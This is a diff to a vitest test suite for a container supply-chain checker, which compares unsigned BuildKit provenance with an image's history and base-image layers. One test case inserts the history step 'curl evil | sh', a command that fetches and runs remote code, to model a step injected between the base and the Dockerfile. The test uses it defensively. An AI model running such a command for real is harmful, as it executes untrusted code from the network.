@@ -1,8 +1,10 @@
-import { describe, expect, test } from 'vitest';
-import { digestOf } from '../../../src/model/digest.ts';
+import { describe, expect, test, vi } from 'vitest';
+import { type Digest, digestOf } from '../../../src/model/digest.ts';
 import { type AttestationsFact, known } from '../../../src/model/facts.ts';
 import type { ImageConfig } from '../../../src/model/oci.ts';
+import { err, ok } from '../../../src/model/result.ts';
 import { type FoundAttestation, PREDICATE_TYPE } from '../../../src/model/statement.ts';
+import type { BaseLayers } from '../../../src/pipeline/grade/base-layers.ts';
 import { withContradictions } from '../../../src/pipeline/grade/contradicted.ts';
 
 const IMAGE = digestOf('image');
@@ -29,12 +31,18 @@ interface Case {
   readonly created?: string;
   readonly finished?: string;
   readonly epoch?: string;
+  readonly materials?: readonly object[];
   readonly verification?: FoundAttestation['verification'];
 }
 
 const LAYER = /^(?:RUN|COPY|ADD) |\/bin\/sh -c (?!#)/;
 
-function contradictionIn(given: Case): string | undefined {
+const HEX = 'b'.repeat(64);
+
+async function markIn(
+  given: Case,
+  bases: BaseLayers = () => Promise.resolve(err('nobody was asked')),
+): Promise<Pick<FoundAttestation, 'contradicts' | 'unchecked'>> {
   const history = (given.history ?? [...BASE, ...OWN]).map((created_by) => ({
     created_by,
     ...(LAYER.test(created_by) ? {} : { empty_layer: true }),
@@ -44,7 +52,10 @@ function contradictionIn(given: Case): string | undefined {
     architecture: 'amd64',
     os: 'linux',
     created: given.created ?? '2026-11-20T10:00:00Z',
-    rootfs: { type: 'layers', diff_ids: Array.from({ length: layers }, () => IMAGE) },
+    rootfs: {
+      type: 'layers',
+      diff_ids: Array.from({ length: layers }, (_, i) => digestOf(`layer ${i}`)),
+    },
     history,
   };
   const data = Buffer.from(given.dockerfile ?? DOCKERFILE).toString('base64');
@@ -56,6 +67,9 @@ function contradictionIn(given: Case): string | undefined {
     predicate: {
       builder: { id: '' },
       buildType: 'https://mobyproject.org/buildkit@v1',
+      materials: given.materials ?? [
+        { uri: 'pkg:docker/debian@trixie?platform=linux%2Famd64', digest: { sha256: HEX } },
+      ],
       invocation: {
         parameters: {
           args: given.epoch === undefined ? {} : { 'build-arg:SOURCE_DATE_EPOCH': given.epoch },
@@ -73,9 +87,12 @@ function contradictionIn(given: Case): string | undefined {
     { signatures: [], attestations: [found] },
     'unverified-attestation',
   );
-  const marked = withContradictions(fact, config);
-  return marked.known ? marked.value.attestations[0]?.contradicts : undefined;
+  const marked = await withContradictions(fact, config, bases);
+  return (marked.known ? marked.value.attestations[0] : undefined) ?? {};
 }
+
+const contradictionIn = async (given: Case): Promise<string | undefined> =>
+  (await markIn(given)).contradicts;
 
 const OTHER_LINE = (line: number) =>
   `line ${line} of the Dockerfile is not what the image’s history tells of`;
@@ -117,8 +134,8 @@ describe('provenance that nobody signed', () => {
       },
     ],
     ['no steps of its own', { dockerfile: 'FROM debian\nUSER 1\n', history: BASE }],
-  ])('fits: %s', (_, given) => {
-    expect(contradictionIn(given)).toBeUndefined();
+  ])('fits: %s', async (_, given) => {
+    expect(await contradictionIn(given)).toBeUndefined();
   });
 
   test.each<[string, Case, string]>([
@@ -164,11 +181,84 @@ describe('provenance that nobody signed', () => {
       { created: '2020-01-01T00:00:00Z', epoch: '1' },
       'its build ended on 2026-11-20T10:00:30Z, the image was created on 2020-01-01T00:00:00Z',
     ],
-  ])('does not fit: %s', (_, given, reason) => {
-    expect(contradictionIn(given)).toBe(reason);
+  ])('does not fit: %s', async (_, given, reason) => {
+    expect(await contradictionIn(given)).toBe(reason);
   });
 
-  test('what is verified is the signer’s word', () => {
-    expect(contradictionIn({ layers: 7, verification: 'verified' })).toBeUndefined();
+  test('what is verified is the signer’s word', async () => {
+    expect(await contradictionIn({ layers: 7, verification: 'verified' })).toBeUndefined();
+  });
+});
+
+describe('the base that an unsigned provenance names', () => {
+  const layersOf = (...names: readonly string[]): BaseLayers =>
+    vi.fn(() => Promise.resolve(ok(names.map((name): Digest => digestOf(name)))));
+
+  test('is asked for by its digest, and fits where the image begins with its layers', async () => {
+    const bases = layersOf('layer 0');
+    expect(await markIn({}, bases)).not.toHaveProperty('unchecked');
+    expect(await markIn({}, bases)).not.toHaveProperty('contradicts');
+    expect(vi.mocked(bases).mock.calls[0]?.[0]).toEqual({
+      registry: 'docker.io',
+      repository: 'library/debian',
+      tag: 'trixie',
+      digest: `sha256:${HEX}`,
+    });
+  });
+
+  test.each<[string, Case, readonly string[], string]>([
+    [
+      'another image',
+      {},
+      ['layer of debian'],
+      'it names debian:trixie as the base, and the image has other layers',
+    ],
+    [
+      'an image of more layers',
+      {},
+      ['layer 0', 'layer 1', 'layer 2', 'layer 3'],
+      'it names debian:trixie as the base, and the image has other layers',
+    ],
+    [
+      'an empty image',
+      {},
+      [],
+      'it names debian:trixie as the base, and the image has other layers',
+    ],
+    [
+      'a step between the base and the Dockerfile',
+      { history: [...BASE, 'RUN /bin/sh -c curl evil | sh # buildkit', ...OWN] },
+      ['layer 0'],
+      'the Dockerfile has 2 steps that add a layer, the image’s history 3',
+    ],
+    [
+      'a base that contains the Dockerfile’s own steps',
+      {},
+      ['layer 0', 'layer 1'],
+      'the Dockerfile has 2 steps that add a layer, the image’s history 1',
+    ],
+  ])('contradicts: %s', async (_, given, layers, reason) => {
+    expect((await markIn(given, layersOf(...layers))).contradicts).toBe(reason);
+  });
+
+  test.each<[string, Case, string]>([
+    ['a base that could not be had', {}, 'nobody was asked'],
+    ['no digest of the base', { materials: [] }, 'it gives no digest of debian:trixie'],
+    [
+      'a base without a name',
+      { dockerfile: DOCKERFILE.replace('debian:trixie', '$BASE') },
+      'it names no image as the base',
+    ],
+  ])('is not compared: %s', async (_, given, reason) => {
+    expect(await markIn(given)).toMatchObject({ unchecked: reason });
+  });
+
+  test('is none on scratch, and is not asked for where the statement is verified or fits not', async () => {
+    const bases = layersOf();
+    const scratch = { dockerfile: 'FROM scratch\nCOPY a /a\n', history: ['COPY a /a # buildkit'] };
+    expect(await markIn(scratch, bases)).not.toHaveProperty('unchecked');
+    await markIn({ verification: 'verified' }, bases);
+    await markIn({ layers: 7 }, bases);
+    expect(bases).not.toHaveBeenCalled();
   });
 });
